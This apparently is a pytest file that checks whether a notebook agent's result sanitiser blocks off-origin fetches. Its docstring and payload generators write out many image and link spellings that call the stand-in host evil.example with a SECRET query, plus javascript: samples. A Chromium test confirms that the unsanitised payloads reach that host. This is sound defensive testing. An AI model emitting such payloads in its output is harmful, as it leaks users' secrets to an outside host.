"""A model's result cannot make the browser fetch from another host (issue 30, item 3).

The attack: a result holding ``<img src="/\\evil.example/p.png?d=SECRET">``. A simple check calls it
relative (no scheme, no ``//``), but a browser's URL parser (WHATWG) reads a backslash as a slash
in an http(s) URL, so the image is fetched from ``evil.example``, with the secret, the moment the
result shows. Many spellings do the same: a leading space, tab, newline or control byte, ``\\\\``,
``/\\t/``, ``https:evil`` (relative to an https base, another host to an http page), character
references (``&#47;&#92;``), Markdown images and reference links, raw HTML links.

Each payload goes through the sanitiser the result display uses (`markdown_html`); every ``src``
and ``href`` left is then resolved as a browser resolves it: with Ada (WHATWG) against several page
URLs, and, in the last test, by Chromium itself in a page served on 127.0.0.1 that records every
request it makes.
"""

from __future__ import annotations

import html
import http.server
import threading
from html.parser import HTMLParser

import ada_url
import pytest
from hypothesis import given, settings, strategies as st

from deepagent_magics.safe_text import markdown_html, safe_url

EVIL = "evil.example"
PAGES = ["http://127.0.0.1:8888/lab/tree/work/analysis.ipynb", "https://hub.example.org/user/me/lab/tree/nb.ipynb",
         "http://localhost/notebooks/a/b/c.ipynb"]
LEADS = ["", " ", "\t", "\n", "\r\n", "\x01", "\x0c", "\x1f", " \t\n "]
SLASHES = ["//", "/\\", "\\/", "\\\\", "///", "\\\\\\", "/\t/", "\\\n\\", "/\r\\", "https:", "http:", "HTTPS:",
           "https:/", "https:\\\\", "http:/\\", "https://", "https:\\/", "ftp://", "//user:pw@"]


def urls_of(markup: str) -> list[tuple[str, str, str]]:
    """(tag, attribute, value as the browser reads it: references decoded) of every URL attribute."""
    found: list[tuple[str, str, str]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            for name, value in attrs:
                if name in ("src", "href", "srcset", "poster", "background", "action", "data", "ping", "cite"):
                    found.append((tag, name, value or ""))

        handle_startendtag = handle_starttag

    parser = Collector(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return found


def off_origin(markup: str) -> list[str]:
    """Each image or other fetched URL that a browser on any of `PAGES` would load from another origin,
    and each link that is neither on the page's origin nor an http(s)/mailto URL of its own."""
    bad = []
    for tag, name, value in urls_of(markup):
        if tag != "img" and name != "href" or name not in ("src", "href"):
            bad.append(f"<{tag} {name}={value!r}> should not be there at all")
            continue
        for page in PAGES:
            try:
                resolved = ada_url.URL(value, page)
            except ValueError:
                continue  # a browser fetches nothing for a URL it cannot parse
            same = resolved.origin == ada_url.URL(page).origin
            if tag == "img" and not same:
                bad.append(f"<img src={value!r}> loads {resolved.href} on {page}")
            if tag == "a" and not same and not (ada_url.check_url(value) and
                                                 resolved.protocol in ("http:", "https:", "mailto:")):
                bad.append(f"<a href={value!r}> is {resolved.href} on {page}")
    return bad


def encoded(text: str, chosen: list[bool]) -> str:
    """``text`` with the characters ``chosen`` written as numeric character references."""
    return "".join(f"&#{ord(c)};" if pick else c for c, pick in zip(text, chosen + [False] * len(text)))


def payloads(lead: str, slashes: str, refs: list[bool] | None = None) -> list[str]:
    """The ways a result can carry one off-origin URL, each as a Markdown result."""
    url = f"{lead}{slashes}{EVIL}/p.png?d=SECRET"
    attr = html.escape(url, quote=True) if refs is None else encoded(url, refs)
    return [f'<img src="{attr}">', f"<img src='{attr}' alt=x>", f"<IMG SRC={attr.replace(' ', '&#32;')}>",
            f'<a href="{attr}"><img src="{attr}"></a>', f"![x]({url.strip()})", f"![x](<{url}>)",
            f"![x][r]\n\n[r]: <{url}>", f"[y][r]\n\n[r]: {url.strip()}", f"<{url.strip()}>",
            f'<img srcset="{attr} 1x" src="ok.png">', f'<img src="ok.png" lowsrc="{attr}" dynsrc="{attr}">']


@pytest.mark.parametrize("lead", LEADS)
@pytest.mark.parametrize("slashes", SLASHES)
def test_no_spelling_of_another_host_survives(lead, slashes):
    for payload in payloads(lead, slashes):
        shown = markdown_html(f"# Report\n\n{payload}\n\nDone.")
        assert off_origin(shown) == [], (payload, shown)


@settings(max_examples=300, deadline=None)
@given(lead=st.text(alphabet=" \t\n\r\x0b\x0c\x00\x01\x1f\x7f", max_size=4),
       slashes=st.text(alphabet="/\\\t\n\r ", min_size=0, max_size=5),
       scheme=st.sampled_from(["", "https:", "http:", "HtTp:", "ftp:", "javascript:", "data:image/png,", "ws:"]),
       refs=st.lists(st.booleans(), max_size=24))
def test_hypothesis_over_separators_and_references(lead, slashes, scheme, refs):
    for payload in payloads(lead, scheme + slashes, refs):
        shown = markdown_html(payload)
        assert off_origin(shown) == [], (payload, shown)


def test_what_a_result_may_link_and_show_is_kept():
    shown = markdown_html("![plot](plot.png) ![deep](figs/a%20b.png?v=2&w=3) [docs](https://example.org/a?b=1&c=2) "
                          "[mail](mailto:me@example.org) [top](#summary) <a href='report.md'>report</a> "
                          "<img src='./out/chart.svg' alt='chart'>")
    found = {(tag, value) for tag, _, value in urls_of(shown)}
    assert found == {("img", "./plot.png"), ("img", "./figs/a%20b.png?v=2&w=3"),
                     ("a", "https://example.org/a?b=1&c=2"), ("a", "mailto:me@example.org"), ("a", "#summary"),
                     ("a", "./report.md"), ("img", "./out/chart.svg")}, shown


@pytest.mark.parametrize("value, image, expected", [
    ("/\\evil.example/p.png", True, None),
    (" //evil.example/p.png", True, None),
    ("https:evil.example/p.png", True, None),  # relative to an https base, another host to an http page
    ("https:evil.example/p.png", False, "https://evil.example/p.png"),  # a link: as any browser reads it
    ("javascript:alert(1)", False, None),
    (" java\tscript:alert(1)", False, None),
    ("../up.png", True, None),  # out of the result's folder
    ("/api/contents", True, None),
    ("a:b.png", True, None),  # a scheme of its own
    ("./a:b.png", True, "./a:b.png"),  # written with ./ so that no browser reads "a:" as one
    ("p.png?x=&lt;", True, "./p.png?x=%26lt;"),  # a reference a browser would decode a second time
    ("#top", False, "#top"),
])
def test_safe_url(value, image, expected):
    assert safe_url(value, image=image) == expected


# ---------------------------------------------------------------- Chromium's own parser

class Recorder(http.server.BaseHTTPRequestHandler):
    """Serves the test page at any path and answers every other request with an empty image."""

    page = b""

    def do_GET(self):  # noqa: N802 - http.server's name
        body, kind = (self.page, "text/html") if self.path.endswith(".html") else (b"", "image/png")
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def local_page():
    Recorder.page = b"<!doctype html><html><body><div id='out'></div></body></html>"
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/lab/tree/work/result.html"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.browser
def test_chromium_fetches_nothing_off_origin(local_page):
    """Every payload, sanitised, set as the page's HTML in Chromium: each image's ``src`` as Chromium
    resolved it is on the page's origin, and no request leaves 127.0.0.1. The same payloads unsanitised
    do send requests to evil.example, so the page and the recorder see the attack."""
    from tests.browser import CHROMIUM, CHROMIUM_ARGS, require_chromium
    import playwright.sync_api as playwright_api

    require_chromium()
    hostile = [payload for lead in LEADS for slashes in SLASHES for payload in payloads(lead, slashes)[:4]]
    hostile += [payload for payload in payloads("", "/\\", [True] * 12)[:4]]
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            requested: list[str] = []

            def route(r):
                requested.append(r.request.url)
                if r.request.url.startswith("http://127.0.0.1:"):
                    r.continue_()
                else:
                    r.abort()  # never leaves the machine

            page.route("**/*", route)
            page.goto(local_page)

            def show(markup: str) -> list[dict]:
                return page.evaluate("""async (markup) => {
                    const out = document.getElementById('out');
                    out.innerHTML = markup;
                    const images = [...out.querySelectorAll('img')];
                    await Promise.all(images.map(img => img.decode().catch(() => null)));
                    return images.map(img => ({src: img.getAttribute('src'), resolved: img.src,
                                               origin: img.src ? new URL(img.src).origin : null}))
                        .concat([...out.querySelectorAll('a')].map(a => ({href: a.getAttribute('href'),
                                                                          resolved: a.href})));
                }""", markup)

            show("\n".join(hostile[:40]))  # unsanitised: Chromium goes to evil.example
            assert any(EVIL in url for url in requested), requested
            requested.clear()

            origin = local_page.split("/lab/")[0]
            for start in range(0, len(hostile), 50):
                shown = markdown_html("\n\n".join(hostile[start:start + 50] + ["![ok](ok.png)"]))
                for element in show(shown):
                    if "src" in element and element["src"] is not None:
                        assert element["origin"] == origin, (element, shown)
                    if element.get("href"):
                        assert element["resolved"].startswith((origin, "https://", "http://", "mailto:")), element
            off = [url for url in requested if not url.startswith(origin)]
            assert off == [], off
            assert any("/lab/tree/work/ok.png" in url for url in requested), requested  # a kept image did load
        finally:
            browser.close()
